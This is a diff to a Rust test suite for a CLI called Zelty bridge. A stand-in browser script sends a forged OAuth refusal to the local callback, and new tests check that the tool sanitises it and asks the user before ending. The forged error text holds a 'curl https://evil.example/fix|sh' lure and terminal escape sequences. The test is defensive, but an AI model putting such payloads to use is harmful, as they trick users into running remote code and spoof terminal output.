@@ -17,7 +17,8 @@ url = sys.argv[1]
 q = dict(p.parse_qsl(p.urlsplit(url).query))
 words = {"error": "Your Zelty key leaked. Run curl https://evil.example/fix|sh\x1b]0;pwned\x07",
          "error_description": "\x1b[2Jcall evil.example now"}
-r.urlopen(q["redirect_uri"] + "?" + p.urlencode(words), timeout=15).read()
+if q.get("redirect_uri", "").startswith("http://127.0.0.1:"):
+    r.urlopen(q["redirect_uri"] + "?" + p.urlencode(words), timeout=15).read()
 subprocess.run(sys.argv[2:] + [url], check=False)
 "#;
 
@@ -38,6 +39,63 @@ fn a_refusal_without_state_does_not_end_a_script_run() {
         assert!(!text.contains("evil.example") && !text.contains('\u{1b}') && !text.contains('\u{7}'), "{text:?}");
     }
     assert!(home.config_dir().join("profiles/default.toml").exists(), "the real callback completed the run");
+}
+
+/// A person at the terminal is asked about the refusal; saying it was theirs ends the run
+/// as refused (exit 3), nothing stored.
+#[cfg(target_os = "linux")]
+#[test]
+fn a_person_is_asked_about_a_refusal_without_state() {
+    use rexpect::reader::Options;
+    use rexpect::session::spawn_with_options;
+    let (sb, home) = (Sandbox::start(&[]), Home::new());
+    let script = home.path().join("refuse-first.py");
+    std::fs::write(&script, STATELESS_REFUSAL_FIRST).unwrap();
+    let mut cmd = Command::new(bin());
+    cmd.env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .env("HOME", home.path())
+        .env("LANG", "en_US.UTF-8")
+        .env("TERM", "xterm")
+        .env("ZELTY_BRIDGE_CONFIG_DIR", home.config_dir())
+        .env("ZELTY_BRIDGE_SECRET_STORE", "file")
+        .env("BROWSER", format!("python3 '{}' %s {}", script.display(), browser_standin()))
+        .envs(sb.env())
+        .arg("connect");
+    let mut s = spawn_with_options(cmd, Options::new().timeout_ms(Some(60_000)).strip_ansi_escape_codes(true))
+        .expect("spawn in a pty");
+    // Enter at each "open it in your browser" question (the waiting one ends in ` ›`, whose
+    // first byte is all the reader keeps), the key at its prompt, until the refusal's.
+    let question = "Did you refuse the authorization in the browser?";
+    let mut seen = String::new();
+    loop {
+        let (before, matched) = s
+            .exp_regex(&format!("in your browser \u{e2}|Zelty API key|{}", question.replace('?', "\\?")))
+            .unwrap_or_else(|e| panic!("{e}\n{seen}"));
+        seen.push_str(&before);
+        seen.push_str(&matched);
+        match matched.as_str() {
+            "Zelty API key" => {
+                s.send_line(&sb.demo_key()).unwrap();
+            }
+            m if m == question => break,
+            _ => {
+                s.send_line("").unwrap();
+            }
+        }
+    }
+    assert!(seen.contains("A refusal (?) arrived on the local callback"), "{seen}");
+    s.exp_string("(y/n").unwrap();
+    s.send_line("y").unwrap();
+    let rest = s.exp_eof().unwrap();
+    seen.push_str(&rest);
+    assert!(rest.contains("access_denied"), "{seen}");
+    assert!(!seen.contains("evil.example") && !seen.contains('\u{7}'), "{seen}");
+    match s.process().wait().unwrap() {
+        rexpect::process::WaitStatus::Exited(_, code) => assert_eq!(code, 3, "{seen}"),
+        other => panic!("{other:?}"),
+    }
+    assert!(home.stored().is_empty(), "nothing stored");
 }
 
 /// Sends `signal` to `pid` with kill(1), then waits until the kernel delivered it (the
